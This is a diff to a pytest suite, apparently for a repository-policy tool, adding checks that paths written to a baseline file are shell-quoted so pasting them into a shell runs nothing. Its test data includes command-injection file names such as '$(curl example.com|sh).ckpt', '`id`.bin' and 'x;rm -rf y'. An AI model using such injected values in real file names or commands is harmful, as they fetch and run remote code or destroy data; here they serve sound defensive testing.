@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import random
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -34,6 +35,11 @@ ODD_NAMES = [
     "cr\rlf.bin",
     "#not-a-comment.bin",
     '"starts-with-quote',
+    "$(curl example.com|sh).ckpt",
+    "`id`.bin",
+    "a;b|c&d.bin",
+    "!bang.bin",
+    "~tilde.bin",
 ]
 
 
@@ -67,6 +73,26 @@ def test_names_are_bare_unless_quoting_is_needed() -> None:
     assert quote_path("a\tb") == '"a\\tb"'
     assert quote_path(os.fsdecode(b"x\xff")) == '"x\\377"'
     assert quote_path('"q') == '"\\"q"'
+
+
+@pytest.mark.parametrize("name", ["$(echo ran|sh).ckpt", "`id`.bin", "x;rm -rf y", "!!"])
+def test_a_shell_expands_nothing_in_a_written_path(name: str) -> None:
+    # A reviewer pasting a path from the baseline into a shell, quoted as
+    # written, must get the file name back, not run it.
+    field = render(entries_for([name])).decode().split("\n")[3].split("\t")[2]
+    echoed = subprocess.run(
+        ["sh", "-c", f"printf '%s' {field}"], capture_output=True, text=True, check=True
+    ).stdout
+    # Between double quotes the shell keeps every byte as written: nothing ran.
+    assert field.startswith('"') and echoed == field[1:-1]
+    assert unquote_path(field) == name
+    assert "$" not in field and "`" not in field and "!" not in field
+
+
+def test_a_baseline_written_before_shell_quoting_still_reads() -> None:
+    old_line = f"excluded\t{BLOB}\t$(echo x).ckpt\t{OLD}\n"
+    back = parse(old_line.encode(), ".repolicy-baseline")
+    assert [e.path for e in back.entries.values()] == ["$(echo x).ckpt"]
 
 
 def test_entries_are_sorted_by_check_then_path_whatever_the_order_found() -> None:
@@ -214,6 +240,7 @@ def test_the_baseline_key_is_read_normalised_and_inherited(tmp_path: Path) -> No
         ("baseline: .git/accepted\n", "1:11", "is inside .git"),
         ("baseline: ci/\n", "1:11", "names a directory"),
         ("exclude: []\nbaseline: ''\n", "2:11", "'baseline' must name a file"),
+        ('baseline: "a\\0b"\n', "1:11", "NUL byte"),
     ],
 )
 def test_a_bad_baseline_key_is_a_policy_error_at_its_position(
